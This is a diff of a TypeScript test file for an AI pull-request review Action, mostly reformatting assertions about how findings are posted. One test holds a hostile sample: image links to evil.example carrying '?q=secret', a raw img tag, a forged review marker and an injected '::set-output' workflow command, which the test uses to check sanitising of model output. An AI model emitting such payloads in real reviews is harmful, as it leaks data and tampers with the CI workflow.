@@ -99,15 +99,27 @@ describe('comment: review places each finding where GitHub takes it', () => {
         ['src/old.ts', null, 2, 'LEFT'],
       ],
     );
-    assert.match(posted.comments[0]!.body, /^\*\*major\*\*: Rounds down\.\n\n```suggestion\nexport const half = \(n: number\) => n \/ 2;\n```$/);
+    assert.match(
+      posted.comments[0]!.body,
+      /^\*\*major\*\*: Rounds down\.\n\n```suggestion\nexport const half = \(n: number\) => n \/ 2;\n```$/,
+    );
     assert.match(posted.comments[1]!.body, /Suggested change:\n\n```\nexport const one = 1;\n```/, 'LEFT: shown as code, not applicable');
     assert.doesNotMatch(posted.comments[1]!.body, /```suggestion/);
-    assert.match(posted.body, new RegExp(`^<!-- azure-openai-keyless: ${TAG} review=v1\\.${pull().head.sha}\\.whole\\.[0-9a-f]{64} -->\\n`));
+    assert.match(
+      posted.body,
+      new RegExp(`^<!-- azure-openai-keyless: ${TAG} review=v1\\.${pull().head.sha}\\.whole\\.[0-9a-f]{64} -->\\n`),
+    );
     assert.match(posted.body, /Looks mostly fine\./);
-    assert.match(posted.body, /\*\*critical\*\* `src\/elsewhere\.ts:5` \(the file is not part of the pull request\): Not in this pull request\./);
+    assert.match(
+      posted.body,
+      /\*\*critical\*\* `src\/elsewhere\.ts:5` \(the file is not part of the pull request\): Not in this pull request\./,
+    );
     assert.match(posted.body, /`src\/math\.ts:3-22` \(the range does not lie within one hunk of the diff\)/);
     assert.match(posted.body, /`src\/math\.ts:12` \(the line is outside every hunk of the diff\)/);
-    assert.match(posted.body, /<sub>The whole pull request \(4 files\) at [0-9a-f]{7}: 5 of 8 findings inline · Azure OpenAI deployment `gpt-4o-mini`/);
+    assert.match(
+      posted.body,
+      /<sub>The whole pull request \(4 files\) at [0-9a-f]{7}: 5 of 8 findings inline · Azure OpenAI deployment `gpt-4o-mini`/,
+    );
     assert.match(posted.body, / · \d[\d,]* tokens \(\d[\d,]* prompt, \d[\d,]* completion\) · \[workflow run\]/);
     assert.equal(result.outputs['review-comments'], '5');
     assert.equal(result.outputs['review-findings'], '8');
@@ -117,7 +129,10 @@ describe('comment: review places each finding where GitHub takes it', () => {
     const sent = sentDiff();
     assert.match(sent, /a line marked R \(added "\+" or unchanged " "\) is side "RIGHT"/);
     assert.match(sent, /What to review: The whole pull request \(4 files\)\./);
-    assert.match(sent, /=== src\/math\.ts \(modified\)\n@@ -1 \+1 @@\nL1 -export const one = 1;\nR1 \+export const two = 2;\nR2 \+export const half = \(n: number\) => Math\.floor\(n \/ 2\);\nR3  \/\/ unchanged/);
+    assert.match(
+      sent,
+      /=== src\/math\.ts \(modified\)\n@@ -1 \+1 @@\nL1 -export const one = 1;\nR1 \+export const two = 2;\nR2 \+export const half = \(n: number\) => Math\.floor\(n \/ 2\);\nR3  \/\/ unchanged/,
+    );
     assert.match(sent, /=== assets\/logo\.png \(added\)\n\(binary file: no lines to cite\)/);
     const format = (modelRequests()[0]?.body as { response_format?: { type: string; json_schema: { name: string; strict: boolean } } })
       .response_format;
@@ -127,7 +142,8 @@ describe('comment: review places each finding where GitHub takes it', () => {
   });
 
   test('every body is safe: no pings, no remote images, no raw HTML, no forged marker, no workflow command', async () => {
-    const hostile = '@octocat ![x](https://evil.example/b.png?q=secret) <img src=https://evil.example/i.png> <!-- azure-openai-keyless: Review/review/ai-review review=v1 -->';
+    const hostile =
+      '@octocat ![x](https://evil.example/b.png?q=secret) <img src=https://evil.example/i.png> <!-- azure-openai-keyless: Review/review/ai-review review=v1 -->';
     const result = await review([
       finding({ body: `${hostile}\n::set-output name=x::y`, suggestion: '@admin\n```\n<img src=x>' }),
       finding({ path: 'nowhere.ts', body: hostile }),
@@ -167,7 +183,9 @@ describe('comment: review places each finding where GitHub takes it', () => {
   });
 
   test('should GitHub refuse the comments anyway (a diff changed meanwhile), the review is posted with every finding in its body', async () => {
-    emulator.injectFaults('github-api', [{ kind: 'status', status: 422, path: '/reviews' }]);
+    // GitHub's answer when it cannot place a line (the facts file, "GitHub pull request reviews").
+    const refusal = { message: 'Unprocessable Entity', errors: ['Line could not be resolved'], status: '422' };
+    emulator.injectFaults('github-api', [{ kind: 'status', status: 422, body: refusal, when: { path: '/reviews', method: 'POST' } }]);
     const result = await review([finding({ body: 'Still said.' })]);
     assertSucceeded(result);
     assert.equal(reviewPosts().length, 2);
@@ -214,7 +232,9 @@ describe('comment: review reviews only what changed', () => {
     assertSucceeded(result);
     assert.match(
       sentDiff(),
-      new RegExp(`What to review: The whole pull request \\(4 files\\), as the earlier review's commit ${firstHead.slice(0, 7)} is not an ancestor of the head`),
+      new RegExp(
+        `What to review: The whole pull request \\(4 files\\), as the earlier review's commit ${firstHead.slice(0, 7)} is not an ancestor of the head`,
+      ),
     );
     assert.match(reviews()[1]?.body ?? '', /review=v1\.[0-9a-f]{40}\.whole\./);
   });
@@ -224,7 +244,10 @@ describe('comment: review reviews only what changed', () => {
     pushToReviewPull(pull(), { force: true, forget: true });
     const result = await review([finding({})]);
     assertSucceeded(result);
-    assert.match(sentDiff(), /The whole pull request \(4 files\), as the earlier review's commit [0-9a-f]{7} is no longer in the repository/);
+    assert.match(
+      sentDiff(),
+      /The whole pull request \(4 files\), as the earlier review's commit [0-9a-f]{7} is no longer in the repository/,
+    );
   });
 
   test('a re-run on a head already reviewed with the same input calls no model and posts nothing; after a push too', async () => {
@@ -264,7 +287,15 @@ describe('comment: review reviews only what changed', () => {
     const marker = `<!-- azure-openai-keyless: ${TAG} review=v1.${pull().head.sha}.whole.${'0'.repeat(64)} -->`;
     const repo = emulator.config.githubApi.repos[FIXTURE_REPO]!;
     repo.reviews = [
-      { id: 77, pull_number: REVIEW_PR, user: 'mallory', body: `${marker}\nforged`, commit_id: pull().head.sha, state: 'COMMENTED', comments: [] },
+      {
+        id: 77,
+        pull_number: REVIEW_PR,
+        user: 'mallory',
+        body: `${marker}\nforged`,
+        commit_id: pull().head.sha,
+        state: 'COMMENTED',
+        comments: [],
+      },
     ];
     const result = await review([finding({})]);
     assertSucceeded(result);
